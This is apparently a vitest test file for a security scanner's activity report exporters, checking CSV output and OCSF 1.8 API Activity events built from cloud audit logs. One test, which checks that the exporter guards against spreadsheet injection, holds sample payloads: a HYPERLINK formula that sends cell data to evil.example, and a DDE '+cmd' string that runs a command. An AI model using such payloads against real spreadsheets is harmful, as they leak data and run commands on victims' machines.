/**
 * activity.csv and activity.ocsf.json (issue #18) on the shared fixture: one row / one OCSF 1.8 API Activity event
 * per snapshot-family call, the findings that quote it, spreadsheet-injection guards on values the caller chose, and
 * every event valid against the schema's own api_activity definition (test/fixtures/reference/ocsf).
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ACTIVITY_HEADER, renderActivityCsv } from '../../reports/activity-csv.ts';
import { renderActivityOcsfEvents } from '../../reports/activity-ocsf.ts';
import { renderers, streamers } from '../../reports/index.ts';
import { collect, resultSource } from '../../reports/source.ts';
import type { RenderContext } from '../../reports/types.ts';
import { catalogue } from '../../checks/index.ts';
import type { ScanResult } from '../../src/core/model/result.ts';
import { parseCsv } from '../support/csv.ts';
import { makeActivity } from '../support/factories.ts';
import { OcsfSchema } from '../support/ocsf.ts';

const result: ScanResult = JSON.parse(readFileSync(new URL('../fixtures/multi-cloud-result.json', import.meta.url), 'utf8'));
const ctx: RenderContext = { trend: null, frameworks: [], checks: catalogue };
const events = result.scopes.flatMap((s) => (s.activity ?? []).map((e) => ({ scope: s.scope, e })));
const schema = new OcsfSchema();

describe('activity.csv', () => {
  const [file] = renderActivityCsv(result, ctx);
  const rows = parseCsv(String(file!.content));
  const col = (name: string) => ACTIVITY_HEADER.indexOf(name);

  it('has one row per event after the header, scope by scope in time order', () => {
    expect(file!.name).toBe('activity.csv');
    expect(rows[0]).toEqual(ACTIVITY_HEADER);
    expect(rows.slice(1).map((r) => r[col('event_id')])).toEqual(events.map((x) => x.e.id));
    expect(String(file!.content)).toMatch(/\r\n$/);
  });

  it('keeps every value as logged, with the outcome class and the findings that quote the event', () => {
    const denied = rows.filter((r) => r[col('error_code')] === 'Client.UnauthorizedOperation');
    expect(denied).toHaveLength(3);
    for (const r of denied) {
      expect(r[col('outcome')]).toBe('denied');
      expect(r[col('identity_issuer')]).toBe('arn:aws:iam::111111111111:role/ci-runner');
      expect(r[col('findings')]!.split(' ')).toEqual(['activity.denied-attempts', 'activity.untrusted-source', 'activity.off-hours']);
      expect(r[col('finding_fingerprints')]!.split(' ')).toHaveLength(3);
    }
    const viaEndpoint = rows.find((r) => r[col('vpc_endpoint_id')] === 'vpce-0a1b2c3d4e5f67890')!;
    expect(viaEndpoint[col('caller')]).toBe('console');
    expect(viaEndpoint[col('mfa')]).toBe('yes');
    expect(viaEndpoint[col('made_from')]).toBe('volume:vol-0a1b2c3d4e5f60001');
  });

  it('guards cells a spreadsheet would run: a user agent or identity the caller chose', () => {
    const scope = result.scopes.find((s) => s.activity?.length)!;
    const hostile: ScanResult = {
      ...result,
      scopes: [
        {
          ...scope,
          findings: [],
          activity: [
            makeActivity({
              id: 'ev-formula',
              identity: { id: '=HYPERLINK("http://evil.example/?q="&A1,"click me")' },
              source: { userAgent: "+cmd|' /C calc'!A0", ip: '@SUM(1+1)' },
            }),
          ],
        },
      ],
    };
    const [row] = parseCsv(String(renderActivityCsv(hostile, ctx)[0]!.content)).slice(1);
    expect(row![col('identity_id')]).toBe('\'=HYPERLINK("http://evil.example/?q="&A1,"click me")');
    expect(row![col('user_agent')]).toBe("'+cmd|' /C calc'!A0");
    expect(row![col('source_ip')]).toBe("'@SUM(1+1)");
  });

  it('streams from a source the same text it renders whole, and is a format of its own', () => {
    expect(collect(streamers['activity-csv']!(resultSource(result), ctx)[0]!)).toBe(String(file!.content));
    expect(renderers['activity-csv']!(result, ctx).map((f) => f.name)).toEqual(['activity.csv']);
    expect(renderers.csv!(result, ctx).map((f) => f.name)).not.toContain('activity.csv');
  });
});

describe('activity.ocsf.json: OCSF 1.8 API Activity events', () => {
  const out = renderActivityOcsfEvents(result);

  it('resolves api_activity through application to base_event with the class uid 6003', () => {
    const cls = schema.resolveClass('api_activity');
    expect(cls.chain).toEqual(['base_event', 'application', 'api_activity']);
    expect(schema.classUid('api_activity', 6)).toBe(6003);
    const required = Object.entries(cls.attributes)
      .filter(([, a]) => a.requirement === 'required')
      .map(([k]) => k);
    expect(required).toEqual(expect.arrayContaining(['actor', 'api', 'src_endpoint', 'time', 'metadata']));
  });

  it('emits one event per call, each keyed by the log event id', () => {
    expect(out.map((e) => (e.metadata as { uid: string }).uid)).toEqual(events.map((x) => x.e.id));
  });

  for (const [i, e] of out.entries()) {
    it(`event ${i} (${(e.api as { operation: string }).operation}) is a valid API Activity`, () => {
      expect(schema.validateEvent(e, 'api_activity', 6)).toEqual([]);
    });
  }

  it('maps identity, source, user agent, outcome and artifacts to the fields SIEMs parse CloudTrail into', () => {
    const denied = out.find((e) => e.status_code === 'Client.UnauthorizedOperation')!;
    expect(denied).toMatchObject({
      class_uid: 6003,
      type_uid: 600301,
      activity_name: 'Create',
      status_id: 2,
      status: 'Failure',
      status_detail: 'denied: the caller lacked permission',
      severity: 'High',
      cloud: { provider: 'AWS', region: 'us-east-1', account: { uid: '111111111111', type_id: 10 } },
      actor: {
        user: { uid: 'arn:aws:sts::111111111111:assumed-role/ci-runner/i-0c1d2e3f4a5b6c7d8', type: 'AssumedRole' },
        session: { issuer: 'arn:aws:iam::111111111111:role/ci-runner', is_mfa: false },
      },
      api: { operation: 'CreateSnapshot', response: { error: 'Client.UnauthorizedOperation' } },
      src_endpoint: { ip: '203.0.113.99' },
      resources: [{ uid: 'vol-0a1b2c3d4e5f60001', role_id: 4, role: 'Related' }],
    });
    const console = out.find((e) => (e.src_endpoint as { uid?: string }).uid === 'vpce-0a1b2c3d4e5f67890')!;
    expect(console).toMatchObject({
      status_id: 1,
      http_request: { user_agent: 'console.ec2.amazonaws.com' },
      src_endpoint: { ip: '10.0.12.7' },
    });
    const backup = out.find((e) => (e.actor as { user: { uid: string } }).user.uid.includes('AWSBackup'))!;
    expect(backup).toMatchObject({ severity_id: 1, src_endpoint: { svc_name: 'backup.amazonaws.com' } });
    expect(out.find((e) => e.activity_name === 'Update')).toMatchObject({
      type_uid: 600303,
      api: { operation: 'ModifySnapshotAttribute' },
    });
    expect(out.find((e) => e.activity_id === 99)).toMatchObject({
      activity_name: 'Export',
      status_code: 'AuthorizationFailed',
      cloud: { provider: 'Azure', account: { type_id: 13 } },
    });
  });

  it('the validator holds the class to its required source endpoint and actor', () => {
    const good = out[0]!;
    expect(schema.validateEvent({ ...good, src_endpoint: {} }, 'api_activity', 6).join('\n')).toMatch(
      /src_endpoint\.: needs at least one of ip/,
    );
    const { actor: _a, ...noActor } = good;
    expect(schema.validateEvent(noActor, 'api_activity', 6)).toContain('actor: required by api_activity and missing');
    expect(schema.validateEvent({ ...good, status_id: 7 }, 'api_activity', 6).join('\n')).toMatch(/status_id: 7 is not in the enum/);
  });

  it('is a format of its own, beside findings.ocsf.json', () => {
    const [file] = renderers['activity-ocsf']!(result, ctx);
    expect(file!.name).toBe('activity.ocsf.json');
    expect(JSON.parse(String(file!.content))).toEqual(out);
    expect(renderers.ocsf!(result, ctx).map((f) => f.name)).toEqual(['findings.ocsf.json']);
  });
});
